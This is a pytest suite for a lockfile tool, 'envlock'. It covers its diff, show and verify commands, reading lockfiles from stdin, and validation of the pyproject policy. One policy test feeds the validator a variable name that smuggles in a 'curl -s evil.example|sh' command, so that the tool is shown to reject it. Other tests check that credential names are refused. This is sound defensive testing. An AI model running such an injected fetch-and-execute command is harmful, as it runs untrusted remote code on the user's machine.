"""`envlock diff`, `envlock show` and the `[tool.envlock]` policy, through the command line,
on lockfiles captured from a real venv."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest
from factory import build_wheel, make_git_repo, make_venv, pip_install
from support import envlock, validate

from envlock import lockfile
from envlock.errors import UsageError
from envlock.policy import Policy, from_table


@pytest.fixture(scope="module")
def venv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    wh = tmp_path_factory.mktemp("wh")
    for name, version in [("alpha", "1.0"), ("alpha", "1.0.1"), ("beta", "2.0")]:
        build_wheel(wh, name, version)
    python = make_venv(tmp_path_factory.mktemp("v") / "venv")
    pip_install(python, "--find-links", str(wh), "alpha==1.0", "beta")
    return python


def _env() -> dict[str, str]:
    env = dict(os.environ)
    for name in ("VIRTUAL_ENV", "CONDA_PREFIX"):
        env.pop(name, None)
    return env


@pytest.fixture
def locks(tmp_path: Path, venv: Path) -> tuple[Path, Path]:
    a = tmp_path / "a.yaml"
    done = envlock("capture", "--python", str(venv), str(a), cwd=tmp_path, env=_env())
    assert done.returncode == 0, done.stderr
    b = tmp_path / "b.yaml"
    b.write_text(a.read_text().replace("alpha: {version: '1.0'", "alpha: {version: 1.0.1"))
    return a, b


def test_diff_two_lockfiles(locks: tuple[Path, Path]) -> None:
    a, b = locks
    done = envlock("diff", str(a), str(b), "--format", "json", cwd=a.parent, env=_env())
    assert done.returncode == 1
    report = json.loads(done.stdout)
    assert [
        (f["category"], f["subject"], f["expected"], f["actual"]) for f in report["findings"]
    ] == [("version", "alpha", "1.0", "1.0.1")]
    same = envlock("diff", str(a), str(a), cwd=a.parent, env=_env())
    assert same.returncode == 0 and "matches" in same.stdout


def test_diff_against_the_live_environment(locks: tuple[Path, Path], venv: Path) -> None:
    a, b = locks
    done = envlock("diff", str(b), "--python", str(venv), cwd=a.parent, env=_env())
    assert done.returncode == 1
    assert "b.yaml vs live" in done.stdout and "alpha: 1.0.1 -> 1.0" in done.stdout


SCHEMAS = Path(__file__).parents[1] / "schemas"


@pytest.fixture
def team_files(tmp_path: Path, venv: Path) -> tuple[Path, Path]:
    """The team's file (ci, laptop, old) and a teammate's (ci with another alpha, laptop, new),
    each environment captured from the real venv."""
    a, b = tmp_path / "team.yaml", tmp_path / "mine.yaml"
    for path, names in ((a, ("ci", "laptop", "old")), (b, ("ci", "laptop", "new"))):
        for name in names:
            done = envlock(
                "capture", "--python", str(venv), str(path), "--name", name, "--no-runtime",
                cwd=tmp_path, env=_env(),
            )  # fmt: skip
            assert done.returncode == 0, done.stderr
    text = b.read_text()
    assert text.count("alpha: {version: '1.0'") == 3
    b.write_text(text.replace("alpha: {version: '1.0'", "alpha: {version: 1.0.1", 1))  # ci's
    return a, b


def test_diff_compares_each_environment_both_files_have(team_files: tuple[Path, Path]) -> None:
    a, b = team_files
    done = envlock("diff", a.name, b.name, cwd=a.parent, env=_env())
    assert done.returncode == 1, done.stderr
    assert "team.yaml vs mine.yaml [ci]: 2 packages checked" in done.stdout
    assert "alpha: 1.0 -> 1.0.1" in done.stdout
    assert "team.yaml vs mine.yaml [laptop]: 2 packages checked: matches" in done.stdout
    assert "new: only in mine.yaml; not compared" in done.stdout
    assert "old: only in team.yaml; not compared" in done.stdout
    assert done.stdout.rstrip().endswith("drift in 1 of 2 environments: ci")

    done = envlock("diff", a.name, b.name, "--format", "json", cwd=a.parent, env=_env())
    assert done.returncode == 1
    report = json.loads(done.stdout)
    jsonschema.validate(report, json.loads((SCHEMAS / "diff-report.schema.json").read_text()))
    single = json.loads((SCHEMAS / "report.schema.json").read_text())
    for each in report["environments"]:
        jsonschema.validate(each, single)
    assert report["kind"] == "lockfile-diff" and report["status"] == "drift"
    assert report["counts"] == {"environments": 2, "match": 1, "warnings": 0, "drift": 1}
    assert (report["only_in_a"], report["only_in_b"]) == (["old"], ["new"])
    ci, laptop = report["environments"]
    assert (ci["environment"], ci["status"], laptop["environment"], laptop["status"]) == (
        "ci", "drift", "laptop", "match"
    )  # fmt: skip
    assert [(f["subject"], f["expected"], f["actual"]) for f in ci["findings"]] == [
        ("alpha", "1.0", "1.0.1")
    ]

    done = envlock("diff", a.name, b.name, "--format", "junit", cwd=a.parent, env=_env())
    root = ET.fromstring(done.stdout)
    suites = {s.get("name"): s for s in root}
    assert list(suites) == ["envlock [ci]", "envlock [laptop]", "envlock: not compared"]
    assert (root.get("failures"), root.get("skipped")) == ("1", "2")
    assert root.get("tests") == str(sum(int(s.get("tests", "0")) for s in root))
    skipped = [(c.get("name"), c[0].get("message")) for c in suites["envlock: not compared"]]
    assert skipped == [
        ("old", "only in team.yaml; not compared"),
        ("new", "only in mine.yaml; not compared"),
    ]

    done = envlock("diff", a.name, b.name, "--format", "github", cwd=a.parent, env=_env())
    lines = done.stdout.splitlines()
    assert lines[0].startswith("::error ") and "alpha: 1.0 -> 1.0.1 [ci]" in lines[0]
    assert [line.split("::")[-1] for line in lines[1:]] == [
        "old: only in team.yaml; not compared",
        "new: only in mine.yaml; not compared",
    ]

    done = envlock("diff", a.name, b.name, "--format", "markdown", cwd=a.parent, env=_env())
    assert done.stdout.startswith("## envlock diff: drift\n")
    assert "### ci: drift" in done.stdout and "### laptop: matches" in done.stdout

    # --env asks for one environment: the single-environment report, as before.
    done = envlock("diff", a.name, b.name, "--env", "laptop", "--format", "json", cwd=a.parent)
    assert done.returncode == 0, done.stderr
    assert "kind" not in json.loads(done.stdout)
    same = envlock("diff", a.name, a.name, cwd=a.parent, env=_env())
    assert same.returncode == 0 and same.stdout.rstrip().endswith("all 3 environments match")


def test_diff_of_one_shared_environment_says_what_it_left_out(
    team_files: tuple[Path, Path], venv: Path
) -> None:
    a, _ = team_files
    one = a.parent / "one.yaml"
    done = envlock("capture", "--python", str(venv), one.name, "--name", "ci", "--no-runtime",
                   cwd=a.parent, env=_env())  # fmt: skip
    assert done.returncode == 0, done.stderr
    done = envlock("diff", a.name, one.name, "--format", "json", cwd=a.parent, env=_env())
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["environment"] == "ci"
    assert "team.yaml: not compared: laptop, old (compared: ci)" in done.stderr


def test_diff_of_two_single_environment_files_compares_them(
    locks: tuple[Path, Path], venv: Path
) -> None:
    """ "My teammate gets different numbers": my lockfile (this platform's environment) and
    the one a teammate captured on a Mac or under another --name have one environment each,
    named differently; diff compares them, as it does files that share one name."""
    a, b = locks
    mac = a.parent / "mac.yaml"
    done = envlock("capture", "--python", str(venv), mac.name, "--name", "osx-arm64",
                   "--no-runtime", cwd=a.parent, env=_env())  # fmt: skip
    assert done.returncode == 0, done.stderr
    mac.write_text(mac.read_text().replace("alpha: {version: '1.0'", "alpha: {version: 1.0.1"))
    (name,) = validate(a)["environments"]
    done = envlock("diff", b.name, mac.name, cwd=a.parent, env=_env())
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"b.yaml [{name}] vs mac.yaml [osx-arm64]: " in done.stdout
    done = envlock("diff", a.name, mac.name, cwd=a.parent, env=_env())
    assert done.returncode == 1 and "alpha: 1.0 -> 1.0.1" in done.stdout, done.stderr
    done = envlock("diff", a.name, mac.name, "--env-b", "nope", cwd=a.parent, env=_env())
    assert done.returncode == 2 and "mac.yaml: no environment 'nope'" in done.stderr


def test_diff_reads_a_lockfile_from_git_history_on_stdin(tmp_path: Path, venv: Path) -> None:
    """``git show HEAD~1:envlock.yaml | envlock diff - envlock.yaml``: what the last commit
    changed, with no temporary file; ``-`` may be either side, and TOML is read as TOML."""
    repo = tmp_path / "repo"
    repo.mkdir()
    for name in ("envlock.yaml", "envlock.toml"):
        done = envlock("capture", "--python", str(venv), "--no-runtime", name, cwd=repo, env=_env())
        assert done.returncode == 0, done.stderr
    make_git_repo(repo)
    for name, old, new in (
        ("envlock.yaml", "alpha: {version: '1.0'", "alpha: {version: 1.0.1"),
        ("envlock.toml", 'packages.alpha]\nversion = "1.0"', 'packages.alpha]\nversion = "1.0.1"'),
    ):
        text = (repo / name).read_text()
        assert old in text
        (repo / name).write_text(text.replace(old, new))
    make_git_repo(repo)
    for name in ("envlock.yaml", "envlock.toml"):
        previous = git_show(repo, f"HEAD~1:{name}")
        done = envlock("diff", "-", name, "--format", "json", cwd=repo, env=_env(), input=previous)
        assert done.returncode == 1, done.stderr
        report = json.loads(done.stdout)
        assert [
            (f["category"], f["subject"], f["expected"], f["actual"]) for f in report["findings"]
        ] == [("version", "alpha", "1.0", "1.0.1")], name
        done = envlock("diff", name, "-", cwd=repo, env=_env(), input=previous)
        assert done.returncode == 1, done.stderr
        assert f"{name} vs <stdin>" in done.stdout and "alpha: 1.0.1 -> 1.0" in done.stdout
    # against the live environment, and summarised
    previous = git_show(repo, "HEAD~1:envlock.yaml")
    done = envlock("diff", "-", "--python", str(venv), cwd=repo, env=_env(), input=previous)
    assert done.returncode == 0 and "<stdin> vs live" in done.stdout, done.stdout + done.stderr
    done = envlock("show", "-", cwd=repo, env=_env(), input=previous)
    assert done.returncode == 0 and done.stdout.startswith("<stdin>: format version 1")


def git_show(repo: Path, spec: str) -> str:
    done = subprocess.run(["git", "show", spec], cwd=repo, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _from_stdin(args: tuple[str, ...], data: bytes, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``envlock ARGS`` reading ``data`` (bytes: encodings too) on its standard input."""
    return subprocess.run(
        [sys.executable, "-m", "envlock", *args], cwd=cwd, env=_env(), input=data,
        capture_output=True, timeout=120,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("args", "data", "message"),
    [
        (("diff", "-", "-"), b"", "A and B are both - (standard input): one of them must be a"),
        (("diff", "-", "a.yaml"), b"", "<stdin>: empty: nothing was piped into `-`"),
        (("diff", "-", "a.yaml"), b"\xff\xfeversion", "<stdin>: not UTF-16 text (byte 8)"),
        (("diff", "a.yaml", "-"), b"version: 1\n\xe9", "<stdin>: not UTF-8 text (byte 11)"),
        (
            ("show", "-"),
            b"version: 1\n<<<<<<< HEAD\n=======\n>>>>>>> b\n",
            "<stdin>: unresolved merge conflict: git's markers at lines 2, 3 and 4: resolve it, "
            "or keep one side and re-run `envlock capture`",
        ),
        (("show", "-"), b"version = 1\n", "<stdin>: environments: required"),  # TOML, read
        (("show", "-"), b"version: [\n", "<stdin>: not valid YAML at line 2: "),
        (
            ("verify", "-"),
            b"",
            "verify reads a lockfile file, not standard input: `envlock diff -` compares the "
            "lockfile piped into it with the live environment",
        ),
    ],
)
def test_a_lockfile_on_stdin_is_read_as_a_files_is(
    tmp_path: Path, locks: tuple[Path, Path], args: tuple[str, ...], data: bytes, message: str
) -> None:
    """Standard input gets a file's defences; every error is one line naming ``<stdin>``."""
    done = _from_stdin(args, data, locks[0].parent)
    assert done.returncode == 2, done.stdout
    assert done.stderr.decode().startswith(f"envlock: error: {message}"), done.stderr
    assert done.stderr.count(b"\n") == 1


def test_a_lockfile_on_stdin_is_capped_and_a_utf16_one_read(locks: tuple[Path, Path]) -> None:
    a, _ = locks
    big = b"#" * (lockfile.MAX_BYTES + 1)
    done = _from_stdin(("diff", "-", a.name), big, a.parent)
    assert done.returncode == 2
    assert done.stderr.decode() == "envlock: error: <stdin>: larger than 32 MiB\n"
    utf16 = b"\xff\xfe" + a.read_text().encode("utf-16-le")  # PowerShell 5's `>`
    done = _from_stdin(("diff", "-", a.name), utf16, a.parent)
    assert done.returncode == 0 and b"<stdin> vs a.yaml" in done.stdout, done.stderr


def test_another_tools_lockfile_on_stdin_is_named(locks: tuple[Path, Path]) -> None:
    pylock = b'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "a"\n'
    done = _from_stdin(("show", "-"), pylock, locks[0].parent)
    assert done.returncode == 2
    assert done.stderr.decode() == (
        "envlock: error: <stdin>: another tool's lockfile (pylock.toml (PEP 751)), not envlock's: "
        "save it to a file and check an environment against it with `envlock verify "
        "--against FILE`\n"
    )


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="no pseudo-terminals on this system")
def test_a_terminal_on_stdin_is_refused_not_waited_on(locks: tuple[Path, Path]) -> None:
    """``envlock diff - b.yaml`` typed with nothing piped would wait for ever: refused."""
    a, _ = locks
    leader, follower = os.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "envlock", "diff", "-", a.name], cwd=a.parent, env=_env(),
            stdin=follower, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
    finally:
        os.close(follower)
        os.close(leader)
    assert done.returncode == 2
    assert done.stderr == (
        "envlock: error: <stdin>: standard input is a terminal: pipe a lockfile into `-`, e.g. "
        "`git show HEAD~1:envlock.yaml | envlock diff - envlock.yaml`\n"
    )


def test_show_summarises(locks: tuple[Path, Path]) -> None:
    a, _ = locks
    done = envlock("show", str(a), cwd=a.parent, env=_env())
    assert done.returncode == 0
    assert "1 environment(s)" in done.stdout and "packages  2 pip" in done.stdout
    assert "python    cpython 3." in done.stdout


def test_show_names_a_blas_once_when_two_files_are_it() -> None:
    """Debian's numpy loads libblas.so.3 (the alternative, OpenBLAS here) and OpenBLAS's own
    library: two files in the lockfile, one BLAS in the summary."""
    from envlock.model import Environment, Lockfile, Platform, Python
    from envlock.nativemodel import BlasLibrary, BlasSection
    from envlock.report import summary

    libs = tuple(
        BlasLibrary("blas", "openblas", "0.3.21", "Cooperlake", file=f, loaded_by="numpy")
        for f in ("lib/libblas.so.3", "lib/libopenblasp-r0.3.21.so")
    )
    env = Environment(Python(), Platform(), blas=BlasSection("runtime", libraries=libs))
    shown = summary.render(Lockfile({"e": env}), "x.yaml")
    assert "  blas      openblas 0.3.21 Cooperlake (numpy)\n" in shown
    files_only = Environment(Python(version="3.11"), Platform())  # --prefix: no implementation
    assert "  python    3.11\n" in summary.render(Lockfile({"e": files_only}), "x.yaml")


def test_policy_in_pyproject(locks: tuple[Path, Path], venv: Path) -> None:
    a, b = locks
    args = ["verify", "--no-runtime", "--python", str(venv), str(b)]
    assert envlock(*args, cwd=a.parent, env=_env()).returncode == 1
    (a.parent / "pyproject.toml").write_text("[tool.envlock]\npatch-warnings = true\n")
    done = envlock(*args, cwd=a.parent, env=_env())
    assert done.returncode == 0, done.stdout  # 1.0.1 -> 1.0 is patch-level: a warning
    assert "warning alpha: 1.0.1 -> 1.0" in done.stdout
    assert envlock(*args, "--strict", cwd=a.parent, env=_env()).returncode == 1
    (a.parent / "pyproject.toml").write_text('[tool.envlock]\nignore = ["alp*"]\n')
    assert envlock(*args, cwd=a.parent, env=_env()).returncode == 0
    (a.parent / "pyproject.toml").write_text('[tool.envlock.package-severity]\nalpha = "info"\n')
    assert envlock(*args, cwd=a.parent, env=_env()).returncode == 0
    assert envlock(*args, "--fail-on", "info", cwd=a.parent, env=_env()).returncode == 1
    assert envlock(*args, "--ignore", "alpha", cwd=a.parent, env=_env()).returncode == 0


def test_invalid_policy_names_the_key(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[tool.envlock]\nfail-on = "sometimes"\n')
    done = envlock("verify", cwd=tmp_path, env=_env())
    assert done.returncode == 2
    assert done.stderr.strip().splitlines()[-1] == (
        "envlock: error: pyproject.toml: [tool.envlock] fail-on: "
        "must be one of error, warning, info"
    )


@pytest.mark.parametrize(
    ("table", "message"),
    [
        ({"colour": True}, "colour: unknown key"),
        ({"ignore": "numpy"}, "ignore: must be a list of strings"),
        ({"severity": {"nonsense": "error"}}, "severity.nonsense: unknown category"),
        ({"severity": {"extra": "fatal"}}, "severity.extra: must be one of"),
        ({"patch-warnings": "yes"}, "patch-warnings: must be true or false"),
        ({"lockfile": "a\0b"}, "lockfile: must be a path"),
        ({"lockfile": ""}, "lockfile: must be a path"),
        # a name that a shell would run, or that is not one: never in a fix hint
        ({"variables": ["X;curl -s evil.example|sh;Y"]}, "'X;curl -s evil.example.sh;Y' is not a"),
        ({"variables": ["A\nB"]}, "'A.nB' is not a variable name"),
        ({"variables": ["MY SEED"]}, "'MY SEED' is not a variable name"),
        ({"variables": ["X" * 200]}, "is not a variable name"),
        ({"variables": [f"V{i}" for i in range(300)]}, "variables: more than 256 names"),
        # a pull request must not make CI print a secret
        ({"variables": ["GITHUB_TOKEN"]}, "GITHUB_TOKEN looks like a credential's name"),
        ({"variables": ["AWS_SECRET_ACCESS_KEY"]}, "AWS_SECRET_ACCESS_KEY looks like a credential"),
        ("x", "pyproject.toml: .tool.envlock.: must be a table"),
    ],
)
def test_policy_errors(table: dict[str, object], message: str) -> None:
    with pytest.raises(UsageError, match=message):
        from_table(table, "pyproject.toml")


def test_package_severity_names_a_pip_package_as_pip_does() -> None:
    table = {"package-severity": {"Typing_Extensions": "info", "conda:Foo_Bar": "warning"}}
    policy = from_table(table, "pyproject.toml")
    assert policy.package_severity == {"typing-extensions": "info", "conda:Foo_Bar": "warning"}


def test_policy_names_of_real_variables_are_accepted() -> None:
    from envlock.variables import VARIABLES

    names = [*VARIABLES, "MY_SEED", "TOKENIZERS_PARALLELISM", "XLA_FLAGS", "_PRIVATE2"]
    assert from_table({"variables": names}, "pyproject.toml").variables == tuple(names)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('tool = "x"  # tool.envlock\n', "pyproject.toml: tool: must be a table"),
        ("[tool.envlock]\nignore = " + "[" * 5000 + "]" * 5000 + "\n", "pyproject.toml: not valid"),
        ("a" + ".a" * 30000 + " = 1  # envlock\n", "pyproject.toml: not valid TOML: a key of"),
        ('[tool.envlock]\nfail-on = "warn\xff"\n', "pyproject.toml: not UTF-8 text"),
        ('[tool.envlock]\nfail-on = "sometimes"\n', "pyproject.toml: .tool.envlock. fail-on"),
        # any way TOML spells the table is read
        ('[tool."envlock"]\nfail-on = "sometimes"\n', "fail-on: must be one of"),
        ("[ tool . envlock ]\nfail-on = 'sometimes'\n", "fail-on: must be one of"),
        ("tool = {envlock = {fail-on = 'sometimes'}}\n", "fail-on: must be one of"),
    ],
)
def test_a_hostile_pyproject_is_one_line_exit_2(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "pyproject.toml").write_bytes(text.encode("latin-1"))  # (\xff: not UTF-8)
    done = envlock("verify", cwd=tmp_path, env=_env())
    assert done.returncode == 2, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert re.search(message, last) and "Traceback" not in done.stderr, done.stderr


def test_the_most_specific_rule_wins() -> None:
    """A package's own severity beats patch-warnings, which beats its category's."""
    from envlock.findings import ERROR, INFO, WARNING, Finding

    patch = Finding("version", "numpy", "1.26.3", "1.26.4", ERROR, "")
    minor = Finding("version", "scipy", "1.11.0", "1.12.0", ERROR, "")
    rules = from_table({"patch-warnings": True, "severity": {"version": INFO}}, "pyproject.toml")
    assert [f.severity for f in rules.apply([patch, minor])] == [INFO, INFO]
    rules = from_table(
        {"patch-warnings": True, "package-severity": {"NumPy": "error"}}, "pyproject.toml"
    )
    assert [f.severity for f in rules.apply([patch, minor])] == [ERROR, ERROR]
    rules = from_table({"patch-warnings": True}, "pyproject.toml")
    assert [f.severity for f in rules.apply([patch, minor])] == [WARNING, ERROR]


def test_strict_never_lowers_the_bar_the_file_sets() -> None:
    from envlock.findings import INFO, WARNING

    assert Policy(fail_on=INFO).with_flags(strict=True).fail_on == INFO
    assert Policy().with_flags(strict=True).fail_on == WARNING
    assert Policy(fail_on=INFO).with_flags(strict=True, fail_on="error").fail_on == "error"


def test_policy_lockfile_is_the_default_everywhere(tmp_path: Path, venv: Path) -> None:
    (tmp_path / "locks").mkdir()
    (tmp_path / "pyproject.toml").write_text('[tool.envlock]\nlockfile = "locks/env.yaml"\n')
    sub = tmp_path / "src"
    sub.mkdir()
    done = envlock("capture", "--no-runtime", "--python", str(venv), cwd=sub, env=_env())
    assert done.returncode == 0, done.stderr
    validate(tmp_path / "locks" / "env.yaml")
    done = envlock("verify", "--no-runtime", "--python", str(venv), cwd=sub, env=_env())
    assert done.returncode == 0 and "env.yaml" in done.stdout
    from envlock.guard import find_lockfile

    assert find_lockfile(sub) == tmp_path / "locks" / "env.yaml"


def test_a_member_projects_pyproject_without_the_table_does_not_hide_the_policy(
    tmp_path: Path, locks: tuple[Path, Path], venv: Path
) -> None:
    """In a monorepo each package has a pyproject.toml of its own; run from one of them,
    envlock still finds the repository's [tool.envlock] above it, as ruff and mypy find
    their tables."""
    _, b = locks  # alpha 1.0.1 locked, 1.0 installed
    (tmp_path / "locks").mkdir()
    (tmp_path / "locks" / "env.yaml").write_bytes(b.read_bytes())
    (tmp_path / "pyproject.toml").write_text(
        '[tool.envlock]\nlockfile = "locks/env.yaml"\nignore = ["alpha"]\n'
    )
    member = tmp_path / "packages" / "member"
    member.mkdir(parents=True)
    (member / "pyproject.toml").write_text(
        '[project]\nname = "member"\nversion = "1.0"\ndependencies = ["envlock"]\n'
    )
    done = envlock("verify", "--no-runtime", "--python", str(venv), cwd=member, env=_env())
    assert done.returncode == 0, done.stdout + done.stderr
    assert "env.yaml [" in done.stdout
    from envlock.guard import find_lockfile

    assert find_lockfile(member) == tmp_path / "locks" / "env.yaml"


def test_a_policy_outside_the_git_repository_is_not_used(
    tmp_path: Path, locks: tuple[Path, Path], venv: Path
) -> None:
    """The walk up for [tool.envlock] stops at the repository's root: a pyproject.toml above
    it (in /tmp, in a home directory) could otherwise ignore the repository's drift."""
    from factory import _git

    _, b = locks  # alpha 1.0.1 locked, 1.0 installed
    (tmp_path / "pyproject.toml").write_text('[tool.envlock]\nignore = ["alpha"]\n')
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q")
    (repo / "pyproject.toml").write_text('[project]\nname = "repo"\nversion = "1.0"\n')
    (repo / "envlock.yaml").write_bytes(b.read_bytes())
    done = envlock("verify", "--no-runtime", "--python", str(venv), cwd=repo, env=_env())
    assert done.returncode == 1, done.stdout + done.stderr
    assert "alpha" in done.stdout


def test_a_lockfile_given_needs_no_policy_and_a_policy_path_is_shown_plainly(
    tmp_path: Path, locks: tuple[Path, Path]
) -> None:
    """show and export read only the lockfile: a policy error elsewhere in pyproject.toml does
    not stop them when the lockfile is named. The policy's lockfile is shown normalized (a
    home directory as ~, never /home/NAME/... behind ../../)."""
    a, _ = locks
    (tmp_path / "pyproject.toml").write_text('[tool.envlock]\nfail-on = "bogus"\n')
    assert envlock("show", str(a), cwd=tmp_path, env=_env()).returncode == 0
    done = envlock("export", str(a), "--to", "requirements", cwd=tmp_path, env=_env())
    assert done.returncode == 0, done.stderr
    assert envlock("show", cwd=tmp_path, env=_env()).returncode == 2  # the policy is needed
    home = tmp_path / "home"
    project = home / "project"
    project.mkdir(parents=True)
    up = "../" * len(project.parts)
    (project / "pyproject.toml").write_text(f'[tool.envlock]\nlockfile = "{up}{home}/x.yaml"\n')
    done = envlock("show", cwd=project, env={**_env(), "HOME": str(home)})
    assert done.returncode == 2
    assert done.stderr.splitlines()[-1] == (
        "envlock: error: ~/x.yaml: no such lockfile (create it with `envlock capture`)"
    )
